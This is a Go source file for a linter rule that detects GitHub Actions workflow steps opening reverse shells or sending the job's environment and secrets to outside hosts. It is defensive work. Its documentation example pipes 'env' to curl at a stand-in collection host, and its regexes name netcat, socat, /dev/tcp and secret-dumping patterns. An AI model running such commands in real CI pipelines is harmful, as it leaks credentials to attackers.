package actions

import (
	"net/netip"
	"regexp"
	"strings"

	"github.com/infralint/infralint/internal/actions"
	"github.com/infralint/infralint/internal/lazyregexp"
	"github.com/infralint/infralint/internal/lint"
)

const exfiltrationGood = `
-- .github/workflows/test.yml --
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: env | sort
`

// Exfiltration reports scripts that send out what they should not.
var Exfiltration = &actions.SourceAnalyzer{
	Rule: lint.Rule{
		ID:       "gha-exfiltration",
		Title:    "script opens a shell to the outside or sends its environment away",
		Severity: lint.Error,
		Doc: `
A shell that is connected to another machine, netcat to a bare address, and an
environment or a file with all secrets that is sent somewhere, are what an attacker
adds to a workflow, not what a build needs. Where it was
meant, to look into a run, it is a way in for whoever listens.

Find out who added it, and revoke the secrets that the job had. To look into a run, use
"Enable debug logging".
`,
		Bad:   lint.Edit(exfiltrationGood, "- run: env | sort", "- run: env | curl -X POST -d @- https://collect.example.com"),
		Good:  exfiltrationGood,
		Tags:  []string{"security"},
		Peers: []string{"checkov:CKV_GHA_3", "checkov:CKV_GHA_4"},
		Since: "0.1.0",
	},
	Run: func(pass *actions.SourcePass) error {
		for _, in := range pass.Unit.Steps() {
			script := actions.Run(in.Step)
			if script == nil || !containsAny(script.Value, mayConnect) {
				continue
			}
			text := blankComments(script.Value)
			for _, kind := range exfiltrations {
				if !containsAny(text, kind.needs) {
					continue
				}
				for _, m := range kind.pattern.FindAllStringIndex(text, -1) {
					pass.Reportf(pass.Unit.Part(script, m[0], m[1]), "%s", kind.message)
				}
			}
			for _, m := range netcat.FindAllStringSubmatchIndex(text, -1) {
				if address, err := netip.ParseAddr(text[m[2]:m[3]]); err == nil && address.IsGlobalUnicast() && (!address.IsPrivate() || sends(text, m[0], m[1])) {
					pass.Reportf(pass.Unit.Part(script, m[0], m[1]), "netcat connects to an address without a name")
				}
			}
			if !strings.Contains(text, ">") {
				continue
			}
			for _, m := range dump.FindAllStringSubmatchIndex(text, -1) {
				file := regexp.QuoteMeta(text[m[2]:m[3]])
				sent, err := regexp.Compile(`\b(?:curl|wget)\b[^\n]*(?:@|\s-T\s*|--upload-file[ =]|--(?:post|body)-file[ =])["']?(?:\./)?` + file)
				if err != nil {
					continue
				}
				if at := sent.FindStringIndex(text[m[1]:]); at != nil {
					pass.Reportf(pass.Unit.Part(script, m[1]+at[0], m[1]+at[1]), "file with the secrets of the job is sent away")
				}
			}
		}
		return nil
	},
}

// sends reports whether the command at [start, end) of a script gets something to
// send: from a pipe or a file.
func sends(text string, start, end int) bool {
	before := strings.TrimRight(text[:start], " \t")
	rest, _, _ := strings.Cut(text[end:lineEnd(text, end, len(text))], ";")
	return strings.HasSuffix(before, "|") && !strings.HasSuffix(before, "||") || strings.Contains(rest, "<")
}

// netcat is a connection to an address; -z only looks whether somebody listens.
var netcat = lazyregexp.New(`\b(?:nc|ncat|netcat)(?:\s+-[a-yA-Z0-9]+(?:\s+\d+)?)*\s+(\d+\.\d+\.\d+\.\d+)\s+["']?[\d$]`)

// dump is a command that writes all secrets or the whole environment to a file.
var dump = lazyregexp.New(`(?:(?i:toJSON\(\s*secrets\s*\))[^\n]*|(?m:^|[;&|]\s*)\s*(?:env|printenv|export -p|set)\s*)>>?\s*["']?(?:\./)?([\w./-]+)`)

// mayConnect is a quick look for what exfiltrations need.
var mayConnect = []string{"/dev/tcp/", "/dev/udp/", "curl", "wget", "nc ", "ncat", "netcat", "socat"}

var exfiltrations = []struct {
	pattern *lazyregexp.Regexp
	message string
	needs   []string // a quick look: one of them is in what the pattern finds
}{
	{lazyregexp.New(strings.Join([]string{
		`/dev/(?:tcp|udp)/[^/\s]+/\d+\s+0?[<>]&?\d?`,
		`\b(?:nc|ncat|netcat)\b[^\n;|&]*\s(?:-e|-c|--exec|--sh-exec)\b`,
		`\bmkfifo\b[^\n]*(?:\n[^\n]*)?\|\s*(?:nc|ncat|netcat)\b`,
		`\bsocat\b[^\n]*\bexec:`,
	}, "|")), "shell is connected to another machine", []string{"/dev/", "nc", "netcat", "socat"}},
	{lazyregexp.New(strings.Join([]string{
		`\b(?:env|printenv|export -p|set)\s*(?:\|\s*(?:base64|gzip|sort|xxd)\b[^\n|;]*)*\|\s*(?:curl|wget|nc|ncat|netcat)\b`,
		`\bcurl\b[^\n]*(?:-d|--data\S*|-F|--form)[ =]["']?\$\(\s*(?:env|printenv|export -p|set)\b`,
		`\bcurl\b[^\n]*(?i:\$\{\{\s*toJSON\(\s*secrets\s*\))`,
	}, "|")), "environment, with the secrets of the job, is sent away", []string{"|", "$(", "${{"}},
}
